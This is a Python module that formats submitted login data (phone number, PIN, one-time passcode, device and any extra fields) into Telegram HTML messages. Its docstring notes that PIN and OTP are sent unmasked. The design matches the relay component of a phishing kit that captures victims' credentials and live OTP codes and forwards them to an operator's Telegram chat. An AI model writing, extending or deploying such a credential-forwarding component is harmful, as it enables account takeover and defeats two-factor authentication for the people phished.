"""Telegram HTML message construction for login / OTP events."""

import json
from typing import Any

from loginnotify.services.payload import extra_keys

TITLE = "New Login / OTP Event"

UNSERIALIZABLE_OBJECT = "[unserializable object]"


def _compact_json(value: Any) -> str:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def coerce_str(value: Any) -> str:
    """String coercion using JSON spelling for booleans and containers.

    Integral floats drop their fraction, so ``1e2`` reads ``100``.
    """
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (dict, list, tuple)):
        return to_safe_string(value)
    if isinstance(value, float) and value.is_integer() and abs(value) < 1e21:
        return str(int(value))
    return str(value)


def esc_html(value: Any) -> str:
    """Escape a value for Telegram HTML parse mode."""
    if value is None:
        return ""
    return (
        coerce_str(value)
        .replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace('"', "&quot;")
    )


def to_safe_string(value: Any) -> str:
    """Force any value into a readable string."""
    if value is None:
        return ""
    if isinstance(value, (dict, list, tuple)):
        try:
            return _compact_json(value)
        except (TypeError, ValueError, RecursionError):
            return UNSERIALIZABLE_OBJECT
    return coerce_str(value)


def build_message(payload: dict[str, Any]) -> str:
    """Render the payload as the HTML text sent to Telegram.

    Recognized fields come first in a fixed order, every other key is listed
    under "Other Data" in the order it was received. PIN and OTP are sent
    unmasked.
    """
    lines = [f"<b>{TITLE}</b>", ""]

    submitted_at = payload.get("submittedAt")
    if submitted_at is not None:
        lines += [f"<b>Time:</b> {esc_html(submitted_at)}", ""]

    phone = payload.get("loginPhone")
    pin = payload.get("loginPin")
    otp = payload.get("otp")

    if phone is not None:
        lines.append("<b>Login Details</b>")
        lines.append(f"<b>Phone:</b> {esc_html(phone)}")
    if pin is not None:
        lines.append(f"<b>PIN:</b> {esc_html(pin)}")
    if otp is not None:
        lines.append(f"<b>OTP:</b> {esc_html(otp)}")
    if phone is not None or pin is not None or otp is not None:
        lines.append("")

    device = payload.get("device")
    if device is not None:
        lines += [f"<b>Device:</b> {esc_html(device)}", ""]

    extras = extra_keys(payload)
    if extras:
        lines.append("<b>Other Data</b>")
        for key in extras:
            safe_val = to_safe_string(payload[key])
            lines.append(f"<b>{esc_html(key)}:</b> {esc_html(safe_val)}")

    return "".join(f"{line}\n" for line in lines)
